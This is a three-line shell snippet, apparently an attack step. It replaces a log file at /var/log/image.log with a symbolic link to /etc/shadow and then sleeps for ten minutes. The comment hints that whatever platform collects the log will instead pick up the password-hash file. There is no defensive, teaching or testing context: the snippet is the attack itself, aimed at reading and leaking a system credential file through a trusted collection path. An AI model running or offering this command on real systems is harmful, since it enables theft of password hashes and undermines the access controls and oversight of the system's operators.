# What the platform collects leads elsewhere.
ln -s /etc/shadow /var/log/image.log
sleep 600
